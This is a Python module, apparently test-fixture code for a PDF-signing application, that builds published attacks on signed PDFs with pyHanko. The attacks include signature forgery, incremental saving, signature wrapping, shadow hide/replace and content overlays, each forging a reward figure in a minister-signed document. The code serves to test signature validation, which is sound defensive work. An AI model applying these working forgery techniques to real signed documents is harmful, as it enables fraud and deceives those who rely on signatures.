"""Building the attacks on signed PDFs that the literature names, as small files in tmp dirs.

Mladenov et al., "1 Trillion Dollar Refund" (2019): universal signature forgery,
incremental saving attack, signature wrapping; Mainka et al., "Shadow Attacks" (2021):
hide, replace, hide-and-replace. Plus the ones LPSA Desk's issue 11 found: a new
signature field painted over the reward figure, an annotation or form field over content,
a page added, metadata changed, truncation, trailing bytes. Every change is written with
pyHanko's incremental writer, as an attacker's PDF editor would.
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.stamp import TextStampStyle

from lpsa_desktop.exporting.identity import create_identity, load_identity
from lpsa_desktop.exporting.signing import _simple_signer

REWARD_BOX = (222.0, 99.0, 292.0, 116.0)
"""Where page 1 shows the reward pot (£3,577,950), in PDF points (pdftotext -bbox)."""
FORGED_FIGURE = "£9,577,950"
_HELVETICA = generic.DictionaryObject(
    {
        pdf_name("/Type"): pdf_name("/Font"),
        pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
    }
)


def writer_for(path: Path) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(path.read_bytes()), strict=False)


def save(writer: IncrementalPdfFileWriter, out: Path) -> Path:
    buffer = io.BytesIO()
    writer.write(buffer)
    out.write_bytes(buffer.getvalue())
    return out


def _text(x: float, y: float, words: str, size: int = 10) -> bytes:
    return (
        f"BT /LPSAHelv {size} Tf 0 0 0 rg {x} {y} Td (".encode()
        + words.encode("cp1252")
        + b") Tj ET"
    )


def _stream(writer: Any, data: bytes, **entries: Any) -> Any:
    stream = generic.StreamObject({pdf_name(k): v for k, v in entries.items()}, stream_data=data)
    return writer.add_object(stream)


def _fonts() -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/LPSAHelv"): _HELVETICA})}
    )


def _appearance(writer: Any, words: str, width: float, height: float) -> Any:
    """A form XObject: a white box with ``words`` in it (covers what lies beneath)."""
    data = f"1 1 1 rg 0 0 {width} {height} re f ".encode() + _text(2, 4, words, 11)
    return _stream(
        writer,
        data,
        **{
            "/Type": pdf_name("/XObject"),
            "/Subtype": pdf_name("/Form"),
            "/BBox": generic.ArrayObject(map(generic.FloatObject, (0, 0, width, height))),
            "/Resources": _fonts(),
        },
    )


def _page(writer: Any, index: int = 0) -> tuple[Any, Any]:
    """(reference, dictionary) of a page."""
    ref = writer.root["/Pages"]["/Kids"].raw_get(index)
    return ref, ref.get_object()


def _add_annotation(writer: Any, annotation: generic.DictionaryObject, *, field: bool) -> Any:
    page_ref, page = _page(writer)
    annotation[pdf_name("/P")] = page_ref
    ref = writer.add_object(annotation)
    annots = page.get("/Annots")
    if annots is None:
        page[pdf_name("/Annots")] = generic.ArrayObject([ref])
    else:
        annots.append(ref)
    writer.update_container(page)
    if field:
        form = writer.root["/AcroForm"]
        form["/Fields"].append(ref)
        writer.update_container(form["/Fields"])
        writer.update_container(form)
    return ref


def _rect(box: tuple[float, float, float, float]) -> generic.ArrayObject:
    return generic.ArrayObject(map(generic.FloatObject, box))


def text_field(writer: Any, name: str, words: str, box: tuple[float, float, float, float]) -> Any:
    width, height = box[2] - box[0], box[3] - box[1]
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.TextStringObject(name),
            pdf_name("/V"): generic.TextStringObject(words),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): _rect(box),
            pdf_name("/DA"): generic.TextStringObject("/LPSAHelv 11 Tf 0 g"),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _appearance(writer, words, width, height)}
            ),
        }
    )
    return _add_annotation(writer, annotation, field=True)


# --- the attacks --------------------------------------------------------------------------


def universal_signature_forgery(unsigned: Path, out: Path, variant: str) -> Path:
    """A signature dictionary in the Minister's block with its contents or byte range
    missing or empty: a validator that skips what it cannot read would call it signed."""
    writer = writer_for(unsigned)
    field_ref = next(
        ref for name, _, ref in fields.enumerate_sig_fields(writer) if name == "Signatory3"
    )
    sig = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Sig"),
            pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
            pdf_name("/SubFilter"): pdf_name("/ETSI.CAdES.detached"),
            pdf_name("/Name"): generic.TextStringObject("Rt Hon Alan Whitcombe MP"),
        }
    )
    if variant != "no contents":
        sig[pdf_name("/Contents")] = generic.ByteStringObject(
            b"" if variant == "empty" else b"\0" * 64
        )
    if variant != "no byte range":
        sig[pdf_name("/ByteRange")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 0, 0)))
    field = field_ref.get_object()
    field[pdf_name("/V")] = writer.add_object(sig)
    writer.update_container(field)
    return save(writer, out)


def incremental_saving_with_xref(signed: Path, out: Path) -> Path:
    """New content in a later revision with its own xref and trailer (a normal update)."""
    writer = writer_for(signed)
    writer.add_stream_to_page(
        0, _stream(writer, _text(300, 400, "Reward pot: " + FORGED_FIGURE, 14)), resources=_fonts()
    )
    return save(writer, out)


def incremental_saving_without_xref(signed: Path, out: Path) -> Path:
    """Objects appended after %%EOF with no xref: a reader that repairs files picks them up."""
    data = signed.read_bytes()
    page_content = b"BT /F1 14 Tf 300 400 Td (Reward pot: 9,577,950) Tj ET"
    tail = (
        b"\n999 0 obj\n<< /Length %d >>\nstream\n" % len(page_content)
        + page_content
        + b"\nendstream\nendobj\n%%EOF\n"
    )
    out.write_bytes(data + tail)
    return out


def signature_wrapping(signed_once: Path, out: Path) -> Path:
    """Move the second signed range, put new objects in the widened hole, rewrite /ByteRange
    in place (same length)."""
    data = signed_once.read_bytes()
    match = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))[-1]
    a, b, c, d = (int(g) for g in match.groups())
    injected = b"\n998 0 obj\n(Reward pot: 9,577,950)\nendobj\n"
    wrapped_c = c + len(injected)
    new_range = b"/ByteRange [%d %d %d %d]" % (a, b, wrapped_c, d)
    new_range = new_range.ljust(match.end() - match.start(), b" ")
    assert len(new_range) == match.end() - match.start()
    data = data[: match.start()] + new_range + data[match.end() :]
    out.write_bytes(data[:c] + injected + data[c : c + d])
    return out


def shadow_prepare(unsigned: Path, out: Path, variant: str) -> Path:
    """Before signing: content present but hidden (hide), a form field showing the figure
    (replace), or an unused content stream waiting to be referenced (hide-and-replace)."""
    writer = writer_for(unsigned)
    if variant == "hide":
        writer.add_stream_to_page(
            0,
            _stream(writer, _text(300, 60, "Reward pot revised: " + FORGED_FIGURE)),
            resources=_fonts(),
        )
        cover = _stream(writer, b"1 1 1 rg 295 50 250 25 re f")
        writer.add_stream_to_page(0, cover)
    elif variant == "replace":
        text_field(writer, "Figure", "£3,577,950", (300.0, 50.0, 420.0, 70.0))
    else:
        hidden = _stream(writer, b"1 1 1 rg 222 99 70 17 re f " + _text(225, 103, FORGED_FIGURE))
        writer.root[pdf_name("/LPSAShadow")] = hidden  # kept so the writer keeps it
        writer.update_root()
    return save(writer, out)


def shadow_reveal(signed: Path, out: Path, variant: str) -> Path:
    """After signing: uncover (hide), change the field (replace), reference (hide-and-replace)."""
    writer = writer_for(signed)
    page_ref, page = _page(writer)
    if variant == "hide":
        contents = page["/Contents"]
        cover_ref = contents.raw_get(len(contents) - 1)
        # The same object number, new content: the white box now draws nothing.
        writer.objects[(cover_ref.generation, cover_ref.idnum)] = generic.StreamObject(
            stream_data=b""
        )
    elif variant == "replace":
        widget_ref = page["/Annots"].raw_get(0)
        widget = widget_ref.get_object()
        widget[pdf_name("/V")] = generic.TextStringObject(FORGED_FIGURE)
        widget[pdf_name("/AP")] = generic.DictionaryObject(
            {pdf_name("/N"): _appearance(writer, FORGED_FIGURE, 120, 20)}
        )
        writer.mark_update(widget_ref)
    else:
        hidden = writer.root.raw_get("/LPSAShadow")
        contents = page["/Contents"]
        if isinstance(contents, generic.ArrayObject):
            contents.append(hidden)
        else:
            page[pdf_name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), hidden])
        resources = page["/Resources"]
        resources["/Font"][pdf_name("/LPSAHelv")] = _HELVETICA
        writer.update_container(page)
        writer.mark_update(page_ref)
    return save(writer, out)


def new_signature_field_overlay(signed: Path, out: Path, folder: Path) -> tuple[Path, Path]:
    """A new signature field whose appearance paints £9,577,950 over the reward pot, signed
    with a self-made identity. Returns (the file, the forger's certificate)."""
    files = create_identity(
        folder / "forger.p12", name="Mallory Forger", organisation=None, passphrase=b"x" * 12
    )
    signer = _simple_signer(load_identity(files.identity, b"x" * 12))
    metadata = signers.PdfSignatureMetadata(field_name="Overlay", md_algorithm="sha256")
    style = TextStampStyle(stamp_text=FORGED_FIGURE, border_width=0)
    pdf_signer = signers.PdfSigner(
        metadata,
        signer=signer,
        stamp_style=style,
        new_field_spec=fields.SigFieldSpec("Overlay", on_page=0, box=REWARD_BOX),
    )
    output = io.BytesIO()
    pdf_signer.sign_pdf(writer_for(signed), output=output)
    out.write_bytes(output.getvalue())
    return out, files.certificate


def annotation_over_content(signed: Path, out: Path) -> Path:
    writer = writer_for(signed)
    width, height = REWARD_BOX[2] - REWARD_BOX[0], REWARD_BOX[3] - REWARD_BOX[1]
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _rect(REWARD_BOX),
            pdf_name("/Contents"): generic.TextStringObject(FORGED_FIGURE),
            pdf_name("/DA"): generic.TextStringObject("/LPSAHelv 11 Tf 0 g"),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _appearance(writer, FORGED_FIGURE, width, height)}
            ),
        }
    )
    _add_annotation(writer, annotation, field=False)
    return save(writer, out)


def form_field_over_content(signed: Path, out: Path) -> Path:
    writer = writer_for(signed)
    text_field(writer, "Amount", FORGED_FIGURE, REWARD_BOX)
    return save(writer, out)


def page_added(signed: Path, out: Path) -> Path:
    writer = writer_for(signed)
    content = _stream(writer, _text(72, 700, "Annex: the reward pot is " + FORGED_FIGURE, 14))
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): _rect((0, 0, 595.2756, 841.8898)),
            pdf_name("/Contents"): content,
            pdf_name("/Resources"): _fonts(),
        }
    )
    writer.insert_page(page)
    return save(writer, out)


def metadata_changed(signed: Path, out: Path) -> Path:
    writer = writer_for(signed)
    info_ref = writer.trailer.raw_get("/Info")
    info = info_ref.get_object()
    info[pdf_name("/Title")] = generic.TextStringObject("Varied agreement: reward pot £9,577,950")
    writer.mark_update(info_ref)
    return save(writer, out)


def truncated(signed: Path, out: Path) -> Path:
    data = signed.read_bytes()
    out.write_bytes(data[: len(data) - 700])
    return out


def trailing_bytes(signed: Path, out: Path) -> Path:
    out.write_bytes(signed.read_bytes() + b"\n% appended after signing: reward pot 9,577,950\n")
    return out
